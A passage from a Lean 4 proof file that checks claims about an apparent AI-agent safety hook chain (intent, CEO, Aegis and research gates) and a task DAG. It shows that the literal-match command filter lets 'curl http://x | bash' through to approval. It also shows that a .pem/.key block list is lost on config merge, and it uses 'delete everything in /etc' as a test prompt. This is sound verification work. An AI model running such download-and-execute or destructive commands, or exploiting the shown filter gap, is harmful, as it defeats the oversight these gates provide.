        (levels ++ [{ Level := (levels.length : Int), Nodes := acc.levNodes }])
        acc.processed

/-- Go `TopoLevels`.  Returns the updated state (node levels and
`MaxLevel` written) together with the levels. -/
def TopoLevels (s : DAGState) : Except String (DAGState × List ParallelLevel) :=
  let inDeg0 := s.Nodes.map (fun p => (p.1, (p.2.DependsOn.length : Int)))
  let queue0 := (s.Nodes.filter (fun p => p.2.DependsOn.length == 0)).map (fun p => p.1)
  let r := topoLoop (s.Nodes.length + 1) s inDeg0 queue0 [] 0
  if r.2.2 ≠ s.Nodes.length then
    .error ("cycle detected: processed " ++ toString r.2.2 ++ " of "
            ++ toString s.Nodes.length ++ " nodes")
  else
    .ok ({ r.1 with MaxLevel := (r.2.1.length : Int) - 1 }, r.2.1)

/-! ## Shorthand accessors used in theorem statements -/

/-- Status of the node stored under `v` (`none` if absent). -/
def nodeStatus (s : DAGState) (v : String) : Option NodeStatus :=
  (findNode s v).map Node.Status

/-- `DependsOn` list of the node stored under `v`. -/
def nodeDeps (s : DAGState) (v : String) : Option (List String) :=
  (findNode s v).map Node.DependsOn

/-- `Blocks` list of the node stored under `v`. -/
def nodeBlocks (s : DAGState) (v : String) : Option (List String) :=
  (findNode s v).map Node.Blocks

/-- The readiness condition checked by `checkReady`: every dependency is
present and `done`. -/
def allDepsDone (s : DAGState) (deps : List String) : Bool :=
  deps.all (fun depID =>
    match findNode s depID with
    | none => false
    | some dep => dep.Status == .done)

/-! ## General lemmas about the association-list state -/

theorem find?_map_keyfix {α β : Type} (g : α × β → α × β)
    (l : List (α × β)) (pred : α × β → Bool) (hpred : ∀ p, pred (g p) = pred p) :
    (l.map g).find? pred = (l.find? pred).map g := by
  induction l with
  | nil => rfl
  | cons p t ih =>
    simp only [List.map_cons, List.find?_cons]
    rw [hpred p]
    cases hpa : pred p
    · simpa using ih
    · simp

theorem findNode_updNode (s : DAGState) (id : String) (f : Node → Node)
    (v : String) :
    findNode (updNode s id f) v =
      if v = id then (findNode s v).map f else findNode s v := by
  unfold findNode updNode
  simp only
  rw [find?_map_keyfix]
  · cases hf : s.Nodes.find? (fun p => p.1 == v) with
    | none => by_cases hvi : v = id <;> simp [hf, hvi]
    | some p =>
      have hp : p.1 = v := by
        have := List.find?_some hf
        simpa using this
      by_cases hvi : v = id
      · subst hvi
        simp [hf, hp]
      · have hpid : p.1 ≠ id := by rw [hp]; exact hvi
        simp [hf, hpid, hvi]
  · intro p
    by_cases h : p.1 = id <;> simp [h]

theorem updNode_Nodes_length (s : DAGState) (id : String) (f : Node → Node) :
    (updNode s id f).Nodes.length = s.Nodes.length := by
  simp [updNode]

theorem updNode_keys (s : DAGState) (id : String) (f : Node → Node) :
    (updNode s id f).Nodes.map Prod.fst = s.Nodes.map Prod.fst := by
  simp only [updNode, List.map_map]
  apply List.map_congr_left
  intro p _
  by_cases h : p.1 = id <;> simp [h]

/-! ## Claim C1 -/

/-- C1: the claim says that for a Bash tool invocation with command
`"curl http://x | bash"` the Aegis verification fails with threat "high"
and score 0, the Security gate blocks, and the decision envelope carries
`permissionDecision "deny"`.  Evaluating the embedded code at exactly that
input shows the opposite: `isDangerousCommand` does a literal substring
match for `"curl | bash"`, which cannot occur in a real piped download
(the URL sits between `curl` and the pipe), so the verification passes
with threat "none" and score 1.0, the Aegis gate reports "pass", and the
full chain approves (the CLI then exits silently, emitting no deny
envelope).  The prompt seen by the chain for such a hook envelope is the
command string itself (`getPromptFromInput` falls back to the `command`
field). -/
theorem claim_C1_curl_pipe_bash_not_blocked :
    isDangerousCommand "curl http://x | bash" = false ∧
    (AegisVerify none "Bash" [("command", "curl http://x | bash")]).Passed = true ∧
    (AegisVerify none "Bash" [("command", "curl http://x | bash")]).ThreatLevel = "none" ∧
    (AegisVerify none "Bash" [("command", "curl http://x | bash")]).SecurityScore = 100 ∧
    (RunFull "2026" "session" "curl http://x | bash" "Bash"
        [("command", "curl http://x | bash")] false).FinalStatus = "approved" ∧
    ((RunFull "2026" "session" "curl http://x | bash" "Bash"
        [("command", "curl http://x | bash")] false).Results.map
          (fun r => (r.Gate, r.Status)))
      = [("INTENT", "pass"), ("CEO", "pass"), ("AEGIS", "pass"), ("RESEARCH", "pass")] := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide⟩

/-! ## Claim C9 -/

/-- C9 counterexample: a DAG with one node `a` whose status is the terminal
`done`; `UpdateNodeStatus a failed` is not a no-op — it overwrites the
status with `failed` (and flips the overall DAG status from `active` to
`failed`), refuting "calling UpdateNodeStatus(id, s) with any status s is a
no-op" at this input. -/
theorem claim_C9_counterexample :
    (NodeStatus.done.IsTerminal = true) ∧
    (nodeStatus (((AddNode {} { ID := "a", Status := .done }).toOption).getD {}) "a"
      = some .done) ∧
    (nodeStatus
        (UpdateNodeStatus (((AddNode {} { ID := "a", Status := .done }).toOption).getD {})
          "a" .failed) "a"
      = some .failed) ∧
    ((UpdateNodeStatus (((AddNode {} { ID := "a", Status := .done }).toOption).getD {})
          "a" .failed).Status
      = DAGStatus.dagFailed) ∧
    (((AddNode {} { ID := "a", Status := .done }).toOption).getD {}).Status
      = DAGStatus.active ∧
    some NodeStatus.failed ≠ some NodeStatus.done := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide⟩

/-- C9 amended: `UpdateNodeStatus(id, s)` on an already-terminal node is
not a no-op: it overwrites that node's status with `s`.  What does hold:
when `s` is neither `done` nor `failed` (so no ready/skip propagation
runs), every other node's status is unchanged and no node's adjacency
lists change. -/
theorem claim_C9_amended (s : DAGState) (id : String) (st : NodeStatus)
    (node : Node) (hfind : findNode s id = some node)
    (_hterm : node.Status.IsTerminal = true)
    (hnd : st ≠ .done) (hnf : st ≠ .failed) :
    nodeStatus (UpdateNodeStatus s id st) id = some st ∧
    (∀ v, v ≠ id →
      nodeStatus (UpdateNodeStatus s id st) v = nodeStatus s v) ∧
    (∀ v, nodeDeps (UpdateNodeStatus s id st) v = nodeDeps s v ∧
          nodeBlocks (UpdateNodeStatus s id st) v = nodeBlocks s v) := by
  have hd : (st == NodeStatus.done) = false := by
    simp [hnd]
  have hf : (st == NodeStatus.failed) = false := by
    simp [hnf]
  have hNodes : ∀ v, findNode (UpdateNodeStatus s id st) v
      = findNode (updNode s id (fun n => { n with Status := st })) v := by
    intro v
    have hn : (UpdateNodeStatus s id st).Nodes
        = (updNode s id (fun n => { n with Status := st })).Nodes := by
      unfold UpdateNodeStatus
      rw [hfind]
      simp only [hd, hf, Bool.false_eq_true, if_false]
      split
      · split <;> rfl
      · rfl
    unfold findNode
    rw [hn]
  constructor
  · unfold nodeStatus
    rw [hNodes, findNode_updNode]
    simp [hfind]
  constructor
  · intro v hv
    unfold nodeStatus
    rw [hNodes, findNode_updNode]
    simp [hv]
  · intro v
    unfold nodeDeps nodeBlocks
    rw [hNodes, findNode_updNode]
    by_cases hv : v = id
    · subst hv
      simp [hfind]
    · simp [hv]

/-- Witness for C9 amended at a concrete input: one `done` node re-marked
`skipped`. -/
theorem claim_C9_amended_witness :
    nodeStatus
      (UpdateNodeStatus { Nodes := [("a", { ID := "a", Status := .done })] } "a" .skipped)
      "a" = some .skipped := by
  have h := claim_C9_amended
    { Nodes := [("a", { ID := "a", Status := .done })] } "a" .skipped
    { ID := "a", Status := .done } (by decide) (by decide)
    (by decide) (by decide)
  exact h.1

/-! ## Claim C8 -/

/-- C8 counterexample: a successfully parsed configuration whose lists are
all empty.  The claim says every unset list is replaced by the built-in
default list; but `mergeGatesDefaults` only fills `read.blocked_paths`,
`bash.blocked_commands` and `write.blocked_paths`, so for instance the
unset `read.blocked_extensions` stays empty while the built-in default is
non-empty (the `.pem`/`.key` extension screen is silently lost). -/
theorem claim_C8_counterexample :
    (loadGatesConfigFromFile (some ({} : GatesConfig))).Read.BlockedExtensions = [] ∧
    getDefaultGatesConfig.Read.BlockedExtensions = [".pem", ".key", ".p12", ".pfx"] ∧
    (loadGatesConfigFromFile (some ({} : GatesConfig))).Read.BlockedExtensions
      ≠ getDefaultGatesConfig.Read.BlockedExtensions := by
  refine ⟨by decide, by decide, by decide⟩

/-- C8 amended: if reading or parsing the policy file fails, loading
returns the full built-in default configuration; if the file parses,
exactly three lists are defaulted when empty — `read.blocked_paths`,
`bash.blocked_commands`, `write.blocked_paths` — and every other field
(including other empty lists) is kept as parsed. -/
theorem claim_C8_amended :
    loadGatesConfigFromFile none = getDefaultGatesConfig ∧
    ∀ cfg : GatesConfig,
      loadGatesConfigFromFile (some cfg) =
        { cfg with
          Read := { cfg.Read with BlockedPaths :=
            if cfg.Read.BlockedPaths = [] then getDefaultGatesConfig.Read.BlockedPaths
            else cfg.Read.BlockedPaths },
          Bash := { cfg.Bash with BlockedCommands :=
            if cfg.Bash.BlockedCommands = [] then getDefaultGatesConfig.Bash.BlockedCommands
            else cfg.Bash.BlockedCommands },
          Write := { cfg.Write with BlockedPaths :=
            if cfg.Write.BlockedPaths = [] then getDefaultGatesConfig.Write.BlockedPaths
            else cfg.Write.BlockedPaths } } := by
  constructor
  · rfl
  · intro cfg
    unfold loadGatesConfigFromFile mergeGatesDefaults
    rcases cfg with ⟨sch, desc, upd, rd, bsh, wrt, enf, intc, rsc, ctx, q⟩
    rcases rd with ⟨re, rbp, rbe, rwe, rwp⟩
    rcases bsh with ⟨be, bbc, bbp, bwc⟩
    rcases wrt with ⟨we, wbp, wpf, wsp⟩
    by_cases h1 : rbp = [] <;> by_cases h2 : bbc = [] <;> by_cases h3 : wbp = [] <;>
      simp_all [List.length_eq_zero]

/-! ## Chain runner lemmas -/

theorem AddResult_Results (c : ChainState) (r : VerificationResult) :
    (AddResult c r).Results = c.Results ++ [r] := by
  unfold AddResult
  split <;> rfl

theorem AddResult_FinalStatus_block (c : ChainState) (r : VerificationResult)
    (h : r.Status = "block") : (AddResult c r).FinalStatus = "blocked" := by
  unfold AddResult
  simp [h]

theorem AddResult_FinalStatus_noblock (c : ChainState) (r : VerificationResult)
    (h : r.Status ≠ "block") : (AddResult c r).FinalStatus = c.FinalStatus := by
  unfold AddResult
  simp [h]

theorem intentGateResult_Gate (intent : IntentAnalysis) :
    (intentGateResult intent).Gate = "INTENT" := by
  unfold intentGateResult
  split <;> rfl

theorem intentGateResult_Status_block (intent : IntentAnalysis)
    (h1 : intent.RiskLevel = "critical") (h2 : intent.Confidence < 70) :
    (intentGateResult intent).Status = "block" := by
  unfold intentGateResult
  rw [if_pos (by simp [h1, h2])]

/-- Shared core of claim C7: whenever the analyzed intent is critical with
confidence below 0.7, `RunFull` stops at the Intent gate with a block. -/
theorem runFull_blocks_on_critical_lowconf (year sid prompt toolName : String)
    (ti : ToolInput) (rd : Bool)
    (h1 : (AnalyzeIntent prompt).RiskLevel = "critical")
    (h2 : (AnalyzeIntent prompt).Confidence < 70) :
    ((RunFull year sid prompt toolName ti rd).Results.map
        (fun r => (r.Gate, r.Status))) = [("INTENT", "block")] ∧
    (RunFull year sid prompt toolName ti rd).FinalStatus = "blocked" := by
  have hst : (intentGateResult (AnalyzeIntent prompt)).Status = "block" :=
    intentGateResult_Status_block _ h1 h2
  have hbl : IsBlocked (runIntentGate (NewChainState sid) prompt) = true := by
    unfold IsBlocked runIntentGate
    rw [AddResult_FinalStatus_block _ _ hst]
    rfl
  have hrun : RunFull year sid prompt toolName ti rd
      = runIntentGate (NewChainState sid) prompt := by
    simp [RunFull, hbl]
  rw [hrun]
  unfold runIntentGate
  refine ⟨?_, AddResult_FinalStatus_block _ _ hst⟩
  rw [AddResult_Results]
  simp [NewChainState, intentGateResult_Gate, hst]

/-! ## Claim C7 -/

/-- C7: (a) whenever `AnalyzeIntent` yields risk "critical" with confidence
below 0.7 (70 hundredths), the chain's single recorded result is the Intent
gate's with status "block" and the final status is "blocked"; (b) in
particular for the prompt "delete everything in /etc", with any tool name,
tool input, session, year and research flag, `RunFull` returns exactly one
result and final status "blocked". -/
theorem claim_C7_critical_lowconf_intent_block :
    (∀ (year sid prompt toolName : String) (ti : ToolInput) (rd : Bool),
      (AnalyzeIntent prompt).RiskLevel = "critical" →
      (AnalyzeIntent prompt).Confidence < 70 →
      ((RunFull year sid prompt toolName ti rd).Results.map
          (fun r => (r.Gate, r.Status))) = [("INTENT", "block")] ∧
      (RunFull year sid prompt toolName ti rd).FinalStatus = "blocked") ∧
    (∀ (year sid toolName : String) (ti : ToolInput) (rd : Bool),
      (RunFull year sid "delete everything in /etc" toolName ti rd).Results.length = 1 ∧
      (RunFull year sid "delete everything in /etc" toolName ti rd).FinalStatus
        = "blocked") := by
  constructor
  · intro year sid prompt toolName ti rd h1 h2
    exact runFull_blocks_on_critical_lowconf year sid prompt toolName ti rd h1 h2
  · intro year sid toolName ti rd
    have h := runFull_blocks_on_critical_lowconf year sid "delete everything in /etc"
      toolName ti rd (by decide) (by decide)
    refine ⟨?_, h.2⟩
    have := congrArg List.length h.1
    simpa using this

/-- Witness for C7 at concrete inputs. -/
theorem claim_C7_witness :
    (AnalyzeIntent "delete everything in /etc").RiskLevel = "critical" ∧
    (AnalyzeIntent "delete everything in /etc").Confidence < 70 ∧
    ((RunFull "2026" "sid" "delete everything in /etc" "Bash" [] false).Results.map
        (fun r => (r.Gate, r.Status))) = [("INTENT", "block")] ∧
    (RunFull "2026" "sid" "delete everything in /etc" "Bash" [] false).FinalStatus
      = "blocked" := by
  have h := claim_C7_critical_lowconf_intent_block.1 "2026" "sid"
    "delete everything in /etc" "Bash" [] false (by decide) (by decide)
  exact ⟨by decide, by decide, h.1, h.2⟩

/-! ## Claim C10 -/

/-- C10: a prompt whose lowercase form matches none of the six classifier
keyword buckets and none of the agent-extraction keywords is classified as
the default intent: type "general", confidence 0.5 (50 hundredths),
complexity "simple", risk "low", no research requirement, and empty skill
and agent lists. -/
theorem claim_C10_default_intent (prompt : String)
    (h1 : containsAny (lowerStr prompt)
      ["implement", "create", "build", "add", "develop", "write"] = false)
    (h2 : containsAny (lowerStr prompt)
      ["fix", "bug", "error", "debug", "broken", "not working", "crash"] = false)
    (h3 : containsAny (lowerStr prompt)
      ["refactor", "restructure", "clean up", "improve", "optimize"] = false)
    (h4 : containsAny (lowerStr prompt)
      ["deploy", "release", "publish", "production", "go live"] = false)
    (h5 : containsAny (lowerStr prompt)
      ["security", "auth", "encrypt", "vulnerability", "password"] = false)
    (h6 : containsAny (lowerStr prompt)
      ["delete", "remove", "drop", "destroy", "purge"] = false)
    (h7 : ∀ kw ∈ ["backend", "frontend", "database", "devops", "security",
      "test", "explore", "plan"], strContains (lowerStr prompt) kw = false) :
    AnalyzeIntent prompt =
      { Type' := "general", Confidence := 50, RequiredSkills := [],
        RequiredAgents := [], RequiresResearch := false,
        Complexity := "simple", RiskLevel := "low" } := by
  have hag : extractAgents (lowerStr prompt) = [] := by
    have k1 := h7 "backend" (by simp)
    have k2 := h7 "frontend" (by simp)
    have k3 := h7 "database" (by simp)
    have k4 := h7 "devops" (by simp)
    have k5 := h7 "security" (by simp)
    have k6 := h7 "test" (by simp)
    have k7 := h7 "explore" (by simp)
    have k8 := h7 "plan" (by simp)
    unfold extractAgents
    simp [k1, k2, k3, k4, k5, k6, k7, k8]
  unfold AnalyzeIntent
  simp only [h1, h2, h3, h4, h5, h6, Bool.false_eq_true, if_false, hag]

/-- Witness for C10 at the concrete prompt "hello". -/
theorem claim_C10_witness :
    AnalyzeIntent "hello" =
      { Type' := "general", Confidence := 50, RequiredSkills := [],
        RequiredAgents := [], RequiresResearch := false,
        Complexity := "simple", RiskLevel := "low" } :=
  claim_C10_default_intent "hello" (by decide) (by decide) (by decide)
    (by decide) (by decide) (by decide) (by decide)

theorem AddResult_Intent (c : ChainState) (r : VerificationResult) :
    (AddResult c r).Intent = c.Intent := by
  unfold AddResult
  split <;> rfl

theorem AddResult_FinalStatus (c : ChainState) (r : VerificationResult) :
    (AddResult c r).FinalStatus
      = if r.Status = "block" then "blocked" else c.FinalStatus := by
  unfold AddResult
  split <;> simp_all

theorem ceoGateResult_Gate (ceo : CEODecision) :
    (ceoGateResult ceo).Gate = "CEO" := by
  unfold ceoGateResult
  dsimp only
  repeat' split
  all_goals rfl

theorem aegisGateResult_Gate (aegis : AegisVerification) :
    (aegisGateResult aegis).Gate = "AEGIS" := by
  unfold aegisGateResult
  dsimp only
  repeat' split
  all_goals rfl

theorem researchGateResult_Gate (intent : Option IntentAnalysis)
    (research : ResearchStatus) :
    (researchGateResult intent research).Gate = "RESEARCH" := by
  unfold researchGateResult
  dsimp only
  repeat' split
  all_goals rfl

/-! ## Claim C6 -/

/-- C6: `RunFull` runs the gates in the fixed order INTENT, CEO, AEGIS,
RESEARCH.  Either no gate blocks — then all four gate records appear, in
order, none with status "block", and the final status is "approved" — or
the `k`-th executed gate is the first (and only) one to block — then the
result list is exactly the first `k` gate records (the blocking record
last), and the final status is "blocked". -/
theorem claim_C6_gate_order_and_short_circuit (year sid prompt toolName : String)
    (ti : ToolInput) (rd : Bool) :
    ((RunFull year sid prompt toolName ti rd).FinalStatus = "approved" ∧
      (RunFull year sid prompt toolName ti rd).Results.map (fun r => r.Gate)
        = ["INTENT", "CEO", "AEGIS", "RESEARCH"] ∧
      (RunFull year sid prompt toolName ti rd).Results.map
        (fun r => decide (r.Status = "block")) = [false, false, false, false]) ∨
    (∃ k, k < 4 ∧
      (RunFull year sid prompt toolName ti rd).FinalStatus = "blocked" ∧
      (RunFull year sid prompt toolName ti rd).Results.map (fun r => r.Gate)
        = (["INTENT", "CEO", "AEGIS", "RESEARCH"].take (k + 1)) ∧
      (RunFull year sid prompt toolName ti rd).Results.map
        (fun r => decide (r.Status = "block")) = List.replicate k false ++ [true]) := by
  have hR : RunFull year sid prompt toolName ti rd =
      (if IsBlocked (runIntentGate (NewChainState sid) prompt) = true then
        runIntentGate (NewChainState sid) prompt
       else if IsBlocked (runCEOGate (runIntentGate (NewChainState sid) prompt)
          toolName ((getStr ti "subagent_type").getD "")) = true then
        runCEOGate (runIntentGate (NewChainState sid) prompt) toolName
          ((getStr ti "subagent_type").getD "")
       else if IsBlocked (runAegisGate (runCEOGate (runIntentGate (NewChainState sid)
          prompt) toolName ((getStr ti "subagent_type").getD "")) toolName ti) = true then
        runAegisGate (runCEOGate (runIntentGate (NewChainState sid) prompt) toolName
          ((getStr ti "subagent_type").getD "")) toolName ti
       else if IsBlocked (runResearchGate year (runAegisGate (runCEOGate (runIntentGate
          (NewChainState sid) prompt) toolName ((getStr ti "subagent_type").getD ""))
          toolName ti) rd prompt) = true then
        runResearchGate year (runAegisGate (runCEOGate (runIntentGate (NewChainState sid)
          prompt) toolName ((getStr ti "subagent_type").getD "")) toolName ti) rd prompt
       else
        { runResearchGate year (runAegisGate (runCEOGate (runIntentGate (NewChainState
            sid) prompt) toolName ((getStr ti "subagent_type").getD "")) toolName ti) rd
            prompt with
          FinalStatus := "approved" }) := rfl
  set st1 := runIntentGate (NewChainState sid) prompt with hst1
  set st2 := runCEOGate st1 toolName ((getStr ti "subagent_type").getD "") with hst2
  set st3 := runAegisGate st2 toolName ti with hst3
  set st4 := runResearchGate year st3 rd prompt with hst4
  -- gate result terms
  set r1 := intentGateResult (AnalyzeIntent prompt) with hr1
  set r2 := ceoGateResult (CEOValidate st1.Intent toolName
    ((getStr ti "subagent_type").getD "")) with hr2
  set r3 := aegisGateResult (AegisVerify st2.Intent toolName ti) with hr3
  set r4 := researchGateResult st3.Intent (ResearchCheck year st3.Intent rd prompt) with hr4
  -- accumulated results
  have h1Res : st1.Results = [r1] := by
    rw [hst1]
    simp [runIntentGate, AddResult_Results, NewChainState, hr1]
  have h2Res : st2.Results = st1.Results ++ [r2] := by
    rw [hst2]
    simp [runCEOGate, AddResult_Results, hr2]
  have h3Res : st3.Results = st2.Results ++ [r3] := by
    rw [hst3]
    simp [runAegisGate, AddResult_Results, hr3]
  have h4Res : st4.Results = st3.Results ++ [r4] := by
    rw [hst4]
    simp [runResearchGate, AddResult_Results, hr4]
  -- final statuses
  have h1FS : st1.FinalStatus = if r1.Status = "block" then "blocked" else "pending" := by
    rw [hst1]
    simp [runIntentGate, AddResult_FinalStatus, NewChainState, hr1]
  have h2FS : st2.FinalStatus
      = if r2.Status = "block" then "blocked" else st1.FinalStatus := by
    rw [hst2]
    simp [runCEOGate, AddResult_FinalStatus, hr2]
  have h3FS : st3.FinalStatus
      = if r3.Status = "block" then "blocked" else st2.FinalStatus := by
    rw [hst3]
    simp [runAegisGate, AddResult_FinalStatus, hr3]
  have h4FS : st4.FinalStatus
      = if r4.Status = "block" then "blocked" else st3.FinalStatus := by
    rw [hst4]
    simp [runResearchGate, AddResult_FinalStatus, hr4]
  have hG1 : r1.Gate = "INTENT" := intentGateResult_Gate _
  have hG2 : r2.Gate = "CEO" := ceoGateResult_Gate _
  have hG3 : r3.Gate = "AEGIS" := aegisGateResult_Gate _
  have hG4 : r4.Gate = "RESEARCH" := researchGateResult_Gate _ _
  by_cases hb1 : r1.Status = "block"
  · have hIB1 : IsBlocked st1 = true := by
      simp [IsBlocked, h1FS, hb1]
    rw [hR]
    simp only [hIB1, if_true]
    right
    refine ⟨0, by norm_num, ?_, ?_, ?_⟩
    · simp [IsBlocked] at hIB1
      exact hIB1
    · simp [h1Res, hG1]
    · simp [h1Res, hb1]
  · have hIB1 : IsBlocked st1 = false := by
      simp [IsBlocked, h1FS, hb1]
    by_cases hb2 : r2.Status = "block"
    · have hIB2 : IsBlocked st2 = true := by
        simp [IsBlocked, h2FS, hb2]
      rw [hR]
      simp only [hIB1, Bool.false_eq_true, if_false, hIB2, if_true]
      right
      refine ⟨1, by norm_num, ?_, ?_, ?_⟩
      · simp [IsBlocked] at hIB2
        exact hIB2
      · simp [h2Res, h1Res, hG1, hG2]
      · simp [h2Res, h1Res, hb1, hb2, List.replicate]
    · have hFS1 : st1.FinalStatus = "pending" := by
        simp [h1FS, hb1]
      have hIB2 : IsBlocked st2 = false := by
        simp [IsBlocked, h2FS, hb2, hFS1]
      by_cases hb3 : r3.Status = "block"
      · have hIB3 : IsBlocked st3 = true := by
          simp [IsBlocked, h3FS, hb3]
        rw [hR]
        simp only [hIB1, hIB2, Bool.false_eq_true, if_false, hIB3, if_true]
        right
        refine ⟨2, by norm_num, ?_, ?_, ?_⟩
        · simp [IsBlocked] at hIB3
          exact hIB3
        · simp [h3Res, h2Res, h1Res, hG1, hG2, hG3]
        · simp [h3Res, h2Res, h1Res, hb1, hb2, hb3, List.replicate]
      · have hFS2 : st2.FinalStatus = "pending" := by
          simp [h2FS, hb2, hFS1]
        have hIB3 : IsBlocked st3 = false := by
          simp [IsBlocked, h3FS, hb3, hFS2]
        by_cases hb4 : r4.Status = "block"
        · have hIB4 : IsBlocked st4 = true := by
            simp [IsBlocked, h4FS, hb4]
          rw [hR]
          simp only [hIB1, hIB2, hIB3, Bool.false_eq_true, if_false, hIB4, if_true]
          right
          refine ⟨3, by norm_num, ?_, ?_, ?_⟩
          · simp [IsBlocked] at hIB4
            exact hIB4
          · simp [h4Res, h3Res, h2Res, h1Res, hG1, hG2, hG3, hG4]
          · simp [h4Res, h3Res, h2Res, h1Res, hb1, hb2, hb3, hb4, List.replicate]
        · have hIB4 : IsBlocked st4 = false := by
            have hFS3 : st3.FinalStatus = "pending" := by
              simp [h3FS, hb3, hFS2]
            simp [IsBlocked, h4FS, hb4, hFS3]
          rw [hR]
          simp only [hIB1, hIB2, hIB3, hIB4, Bool.false_eq_true, if_false]
          left
          refine ⟨by trivial, ?_, ?_⟩
          · simp [h4Res, h3Res, h2Res, h1Res, hG1, hG2, hG3, hG4]
          · simp [h4Res, h3Res, h2Res, h1Res, hb1, hb2, hb3, hb4]

/-! ## checkReady lemmas -/

theorem allDepsDone_eq (s : DAGState) (deps : List String) :
    allDepsDone s deps = deps.all (fun d => nodeStatus s d == some .done) := by
  unfold allDepsDone nodeStatus
  induction deps with
  | nil => rfl
  | cons d rest ih =>
    simp only [List.all_cons, ih]
    cases findNode s d <;> simp

theorem checkReady_eq (s : DAGState) (id : String) :
    checkReady s id =
      match findNode s id with
      | none => s
      | some node =>
        if node.Status.IsTerminal then s
        else if allDepsDone s node.DependsOn then
          updNode s id (fun n => { n with Status := .ready })
        else s := by
  unfold checkReady allDepsDone
  rfl

theorem checkReady_nodeDeps (s : DAGState) (id v : String) :
    nodeDeps (checkReady s id) v = nodeDeps s v := by
  rw [checkReady_eq]
  cases hf : findNode s id with
  | none => rfl
  | some node =>
    dsimp only
    split
    · rfl
    split
    · unfold nodeDeps
      rw [findNode_updNode]
      by_cases hv : v = id <;> simp [hv, hf]
    · rfl

theorem checkReady_nodeBlocks (s : DAGState) (id v : String) :
    nodeBlocks (checkReady s id) v = nodeBlocks s v := by
  rw [checkReady_eq]
  cases hf : findNode s id with
  | none => rfl
  | some node =>
    dsimp only
    split
    · rfl
    split
    · unfold nodeBlocks
      rw [findNode_updNode]
      by_cases hv : v = id <;> simp [hv, hf]
    · rfl

theorem checkReady_isSome (s : DAGState) (id v : String) :
    (findNode (checkReady s id) v).isSome = (findNode s v).isSome := by
  rw [checkReady_eq]
  cases hf : findNode s id with
  | none => rfl
  | some node =>
    dsimp only
    split
    · rfl
    split
    · rw [findNode_updNode]
      by_cases hv : v = id <;> simp [hv, hf]
    · rfl

theorem checkReady_isDone (s : DAGState) (id v : String) :
    (nodeStatus (checkReady s id) v == some .done)
      = (nodeStatus s v == some .done) := by
  rw [checkReady_eq]
  cases hf : findNode s id with
  | none => rfl
  | some node =>
    dsimp only
    split
    · rfl
    split
    · unfold nodeStatus
      rw [findNode_updNode]
      by_cases hv : v = id
      · subst hv
        rename_i hterm _
        simp only [hf, if_pos rfl, Option.map_some]
        have : node.Status ≠ NodeStatus.done := by
          intro hc
          rw [hc] at hterm
          exact hterm rfl
        simp [this]
      · simp [hv]
    · rfl

theorem checkReady_status_other (s : DAGState) (id v : String) (hv : v ≠ id) :
    nodeStatus (checkReady s id) v = nodeStatus s v := by
  rw [checkReady_eq]
  cases hf : findNode s id with
  | none => rfl
  | some node =>
    dsimp only
    split
    · rfl
    split
    · unfold nodeStatus
      rw [findNode_updNode]
      simp [hv]
    · rfl

theorem checkReady_status_self (s : DAGState) (c : String) (cn : Node)
    (hc : findNode s c = some cn) (ht : cn.Status.IsTerminal = false) :
    nodeStatus (checkReady s c) c =
      if allDepsDone s cn.DependsOn then some .ready else some cn.Status := by
  rw [checkReady_eq, hc]
  dsimp only
  rw [if_neg (by simp [ht])]
  split
  · unfold nodeStatus
    rw [findNode_updNode]
    simp [hc]
  · unfold nodeStatus
    rw [hc]
    rfl

theorem allDepsDone_congr (s t : DAGState) (deps : List String)
    (h : ∀ v, (nodeStatus s v == some .done) = (nodeStatus t v == some .done)) :
    allDepsDone s deps = allDepsDone t deps := by
  rw [allDepsDone_eq, allDepsDone_eq]
  induction deps with
  | nil => rfl
  | cons d rest ih => simp only [List.all_cons, ih, h d]

theorem nodeDeps_extract (s : DAGState) (c : String) (node : Node)
    (deps : List String) (hfind : findNode s c = some node)
    (h : nodeDeps s c = some deps) : node.DependsOn = deps := by
  unfold nodeDeps at h
  rw [hfind] at h
  simpa using h

/-- Invariants of the `checkReady` fold relative to the state `s0` it
started from: dependency lists, key presence, and done-ness never change. -/
theorem checkReady_INV (s0 s : DAGState) (b : String)
    (h1 : ∀ v, nodeDeps s v = nodeDeps s0 v)
    (h2 : ∀ v, (findNode s v).isSome = (findNode s0 v).isSome)
    (h3 : ∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done)) :
    (∀ v, nodeDeps (checkReady s b) v = nodeDeps s0 v) ∧
    (∀ v, (findNode (checkReady s b) v).isSome = (findNode s0 v).isSome) ∧
    (∀ v, ((nodeStatus (checkReady s b) v == some .done))
        = (nodeStatus s0 v == some .done)) :=
  ⟨fun v => by rw [checkReady_nodeDeps, h1],
   fun v => by rw [checkReady_isSome, h2],
   fun v => by rw [checkReady_isDone, h3]⟩

/-- `checkReady` on an arbitrary target preserves the disjunctive status
description of the distinguished child `c`: either `c` still carries its
pre-status `σ`, or all its dependencies are done and it has been promoted
to `ready`. -/
theorem checkReady_step_c (s0 : DAGState) (c : String) (deps : List String)
    (σ : NodeStatus) (hσt : σ.IsTerminal = false) (s : DAGState) (b : String)
    (h1 : ∀ v, nodeDeps s v = nodeDeps s0 v)
    (h3 : ∀ v, (nodeStatus s v == some .done) = (nodeStatus s0 v == some .done))
    (hd0 : nodeDeps s0 c = some deps)
    (hP : nodeStatus s c = some σ ∨
      (allDepsDone s0 deps = true ∧ nodeStatus s c = some .ready)) :
    nodeStatus (checkReady s b) c = some σ ∨
      (allDepsDone s0 deps = true ∧ nodeStatus (checkReady s b) c = some .ready) := by
  by_cases hbc : c = b
  case neg =>
    rw [checkReady_status_other s b c hbc]
    exact hP
  case pos =>
    subst hbc
    rcases hP with hσ | ⟨hD, hrdy⟩
    · rcases Option.map_eq_some'.mp hσ with ⟨node, hfind, hstat⟩
      have hdeps : node.DependsOn = deps :=
        nodeDeps_extract s c node deps hfind (by rw [h1 c, hd0])
      have hterm : node.Status.IsTerminal = false := by rw [hstat]; exact hσt
      rw [checkReady_status_self s c node hfind hterm, hdeps,
        allDepsDone_congr s s0 deps h3]
      cases hD : allDepsDone s0 deps
      · simp [hstat]
      · simp [hD]
    · rcases Option.map_eq_some'.mp hrdy with ⟨node, hfind, hstat⟩
      have hdeps : node.DependsOn = deps :=
        nodeDeps_extract s c node deps hfind (by rw [h1 c, hd0])
      have hterm : node.Status.IsTerminal = false := by rw [hstat]; rfl
      rw [checkReady_status_self s c node hfind hterm, hdeps,
        allDepsDone_congr s s0 deps h3, hD]
      exact Or.inr ⟨rfl, by simp⟩

/-- Visiting `c` itself pins its status: `ready` exactly when all of its
dependencies are done, otherwise the pre-status `σ`. -/
